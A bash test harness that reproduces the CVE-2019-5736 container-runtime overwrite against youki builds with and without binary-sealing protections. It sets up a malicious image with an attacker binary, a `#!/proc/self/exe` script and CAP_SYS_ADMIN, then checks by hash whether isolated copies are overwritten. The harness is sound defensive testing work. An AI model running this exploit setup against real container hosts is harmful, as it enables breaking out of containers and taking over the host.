#!/usr/bin/env bash
# CVE-2019-5736 against youki 0.7.0 with pentacle, with exeseal and without
# sealing (bench/adopt-youki.sh builds them), as crates/sealrun/tests/exploit.rs
# attacks sealrun:
#   * the image: busybox (crates/sealrun/tests/make-bundle.sh) plus /attacker
#     (crates/sealrun/tests/exploit/attacker.c, gcc -static) as the
#     container's pid 1, and /exploit.sh whose interpreter is
#     `#!/proc/self/exe`;
#   * the container's process holds Docker's default capabilities plus
#     CAP_SYS_ADMIN (the attacker may clone, remount and reconfigure the mount
#     it catches the runtime on, and chmod through the magic link);
#   * the runtime enters with `exec <id> /exploit.sh` until the attacker
#     caught a process whose /proc/<pid>/exe is neither itself nor busybox;
#     it then reopens that for writing until the host runtime is gone.
# Each case attacks a fresh COPY of a variant, alone in a directory of its
# own (never the build output, never a system binary); the verdict is the
# copy's sha256 before and after. The unprotected copy must be overwritten
# (the attack bites), every other one must stay byte-identical.
#
# usage: adopt-youki-attack.sh YOUKI_BIN_DIR SEALRUN_BIN_DIR
#   YOUKI_BIN_DIR holds youki-{pentacle,exeseal,none}; SEALRUN_BIN_DIR holds
#   sealrun (for `spec`), memfd-bind and sealmount. Root only. Prints a
#   markdown verdict table on stdout, progress on stderr; exits 1 on any
#   unexpected verdict.
set -euo pipefail
cd "$(dirname "$0")/.."
[ $# = 2 ] || { echo "usage: $0 YOUKI_BIN_DIR SEALRUN_BIN_DIR" >&2; exit 2; }
ybin=$(realpath "$1")
sbin=$(realpath "$2")
[ "$(id -u)" = 0 ] || { echo "adopt-youki-attack: run as root" >&2; exit 1; }

# memfd-bind's bind mount and sealmount's overlay only ever exist in a
# private mount namespace, which takes them along when it ends.
if [ "${_ADOPT_YOUKI_IN_NS:-}" != 1 ]; then
  export _ADOPT_YOUKI_IN_NS=1
  exec unshare -m --propagation private -- bash "$0" "$@"
fi

WINDOW_MS=5000       # how long the attacker keeps trying once it caught something
CATCH_DEADLINE=20    # s of `exec` attempts until it catches something
work=$(mktemp -d /tmp/adopt-youki-attack.XXXXXX)
daemon="" sealed_dir=""
cleanup() {
  [ -z "$daemon" ] || { kill -TERM "$daemon" 2>/dev/null; wait "$daemon" 2>/dev/null || true; }
  [ -z "$sealed_dir" ] || "$sbin/sealmount" --cleanup --lazy "$sealed_dir" >/dev/null 2>&1 || true
  local root c
  for root in "$work"/*/state; do
    for c in "$root"/*; do
      [ -e "$c" ] && "$work/cleaner/youki" --root "$root" delete --force "${c##*/}" >/dev/null 2>&1 || true
    done
  done
  rm -rf "$work"
}
trap cleanup EXIT

# Deletes containers whatever happened to the attacked copy.
mkdir -p "$work/cleaner"
cp "$ybin/youki-none" "$work/cleaner/youki"

# The malicious image.
rootfs=$work/rootfs
bash crates/sealrun/tests/make-bundle.sh "$rootfs" >/dev/null
gcc -static -O2 -Wall -o "$rootfs/attacker" crates/sealrun/tests/exploit/attacker.c \
  || { echo "adopt-youki-attack: gcc -static failed (install libc6-dev)" >&2; exit 1; }
printf '#!/proc/self/exe\n' >"$rootfs/exploit.sh"
chmod 0755 "$rootfs/exploit.sh"
mkdir -p "$rootfs/report"
# A dynamically linked youki needs its loader and libraries in the image to
# start in there (a malicious image could ship anything); the static build
# of adopt-youki.sh needs none.
for v in pentacle exeseal none; do
  ldd "$ybin/youki-$v" 2>/dev/null | grep -o '/[^ ]*' | while read -r lib; do
    mkdir -p "$rootfs$(dirname "$lib")"
    cp -n "$lib" "$rootfs$lib"
  done || true
done
(cd "$work" && "$sbin/sealrun" spec)
caps='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD","CAP_NET_RAW","CAP_SETGID",
  "CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE",
  "CAP_SYS_ADMIN"]'

# wait_for SECONDS TEST... : polls every 20 ms.
wait_for() {
  local end=$((SECONDS + $1))
  shift
  until "$@"; do
    [ $SECONDS -lt $end ] || return 1
    sleep 0.02
  done
}

rows=()
unexpected=0
# attack SLUG LABEL EXPECT VICTIM [VAR=VALUE...]: attack the copy VICTIM with
# youki's calls (create, start, exec) under the given environment.
attack() {
  local slug=$1 label=$2 expect=$3 victim=$4
  shift 4
  local d=$work/$slug id=ay-$$-$slug n=0 t0=$SECONDS before after served_after='' verdict caught result
  local yk=(env "$@" "$victim" --root "$d/state")
  mkdir -p "$d/report" "$d/bundle" "$d/state"
  before=$(sha256sum <"$victim")
  jq --arg r "$rootfs" --arg rep "$d/report" --argjson caps "$caps" --arg w "$WINDOW_MS" '
    .root.path = $r | .root.readonly = false
    | .process.terminal = false | .process.args = ["/attacker", "/report", $w]
    | .process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps, inheritable: [], ambient: []}
    | .mounts += [{destination: "/report", type: "bind", source: $rep, options: ["rbind", "rw"]}]' \
    "$work/config.json" >"$d/bundle/config.json"
  echo "adopt-youki-attack: $label ..." >&2
  timeout -k 1 30 "${yk[@]}" create --bundle "$d/bundle" "$id" </dev/null >"$d/create.log" 2>&1 \
    && timeout -k 1 30 "${yk[@]}" start "$id" </dev/null >"$d/start.log" 2>&1 \
    && wait_for 10 test -e "$d/report/ready" \
    || { echo "adopt-youki-attack: $label: the attacker container did not start:" >&2; cat "$d"/*.log >&2; return 1; }
  while [ ! -e "$d/report/caught" ] && [ $((SECONDS - t0)) -lt $CATCH_DEADLINE ]; do
    n=$((n + 1))
    # Its exit status does not matter: the container side of the script fails.
    timeout -k 1 6 "${yk[@]}" exec "$id" /exploit.sh </dev/null >>"$d/exec.log" 2>&1 || true
  done
  touch "$d/report/host-done"
  wait_for $((WINDOW_MS / 1000 + 10)) test -e "$d/report/result" \
    || { echo "adopt-youki-attack: $label: the attacker wrote no result" >&2; return 1; }
  caught=$(sed -n 's/^exe=//p' "$d/report/result")
  result=$(sed -n 's/^result=//p' "$d/report/result")
  "$work/cleaner/youki" --root "$d/state" delete --force "$id" >/dev/null 2>&1 || true
  [ ! -e "$d/state/$id" ] || { echo "adopt-youki-attack: $label: container $id not deleted" >&2; return 1; }
  # Served by memfd-bind: what the path serves (the memfd) must be intact
  # too, then the file under it once the daemon has unmounted.
  if [ -n "$daemon" ]; then
    served_after=$(sha256sum <"$victim")
    kill -TERM "$daemon"
    wait "$daemon" || true
    daemon=
  fi
  if [ -n "$sealed_dir" ]; then
    "$sbin/sealmount" --cleanup --lazy "$sealed_dir" >>"$work/sealmount.log" 2>&1
    sealed_dir=
  fi
  after=$(sha256sum <"$victim")
  if [ "$before" = "$after" ] && [ "${served_after:-$before}" = "$before" ]; then
    verdict=UNCHANGED
  else
    verdict=OVERWRITTEN
  fi
  local ok=expected
  [ "$verdict" = "$expect" ] || { ok="**UNEXPECTED**"; unexpected=1; }
  local errnos
  errnos=$(sed -n 's/^errno=//p' "$d/report/result" | grep -v '^stat EACCES' | paste -sd, | sed 's/,/, /g')
  echo "adopt-youki-attack: $label: $n exec(s), caught ${caught:--}, attacker: $result; copy $verdict ($ok)" >&2
  caught=${caught//$work/\$TMP}
  rows+=("| $label | $n | \`${caught:--}\` | $result | ${errnos:-—} | $verdict | $expect | $ok |")
}

# victim VARIANT SLUG: a fresh copy, alone in a directory of its own.
victim() {
  mkdir -p "$work/$2/bin"
  cp "$ybin/youki-$1" "$work/$2/bin/youki"
  echo "$work/$2/bin/youki"
}

attack exeseal-default "youki + exeseal (default order)" UNCHANGED "$(victim exeseal exeseal-default)"
attack exeseal-overlayfs "youki + exeseal, EXESEAL_STRATEGIES=overlayfs" UNCHANGED \
  "$(victim exeseal exeseal-overlayfs)" EXESEAL_STRATEGIES=overlayfs
attack exeseal-memfd "youki + exeseal, EXESEAL_STRATEGIES=memfd" UNCHANGED \
  "$(victim exeseal exeseal-memfd)" EXESEAL_STRATEGIES=memfd

# Already sealed by memfd-bind: its one sealed copy (huge-page tmpfs where the
# kernel offers it, else a memfd) bind-mounted over the
# copy's path (this namespace only); youki + exeseal must find itself sealed.
v=$(victim exeseal exeseal-memfd-bind)
"$sbin/memfd-bind" --state-dir "$work/memfd-bind-state" "$v" 2>"$work/memfd-bind.log" &
daemon=$!
wait_for 10 "$sbin/memfd-bind" --state-dir "$work/memfd-bind-state" --status "$v" >/dev/null \
  || { echo "adopt-youki-attack: memfd-bind did not serve $v:" >&2; cat "$work/memfd-bind.log" >&2; exit 1; }
attack exeseal-memfd-bind "youki + exeseal under memfd-bind" UNCHANGED "$v"

# Already sealed by sealmount: a read-only lower-only overlay over the copy's
# directory (this namespace only).
v=$(victim exeseal exeseal-sealmount)
sealed_dir=$(dirname "$v")
"$sbin/sealmount" "$sealed_dir" >"$work/sealmount.log" 2>&1 \
  || { echo "adopt-youki-attack: sealmount $sealed_dir failed:" >&2; cat "$work/sealmount.log" >&2; exit 1; }
attack exeseal-sealmount "youki + exeseal under sealmount" UNCHANGED "$v"

attack pentacle "youki + pentacle (as published)" UNCHANGED "$(victim pentacle pentacle)"
attack none "youki unprotected (none.patch, control)" OVERWRITTEN "$(victim none none)"

echo "| youki variant | exec calls | the attacker caught | attacker's result | errnos it saw (besides stat EACCES) | copy after | expected | verdict |"
echo "|---|---|---|---|---|---|---|---|"
printf '%s\n' "${rows[@]}"
# Nothing left behind: no mount of ours, no cgroup of a test container
# (each case already checked its container's state dir).
if grep -q "$work" /proc/self/mountinfo; then
  echo "adopt-youki-attack: mounts left under $work" >&2
  unexpected=1
fi
if [ -n "$(find /sys/fs/cgroup -maxdepth 4 -name "*ay-$$-*" -print -quit 2>/dev/null)" ]; then
  echo "adopt-youki-attack: cgroups of test containers left behind" >&2
  unexpected=1
fi
exit $unexpected
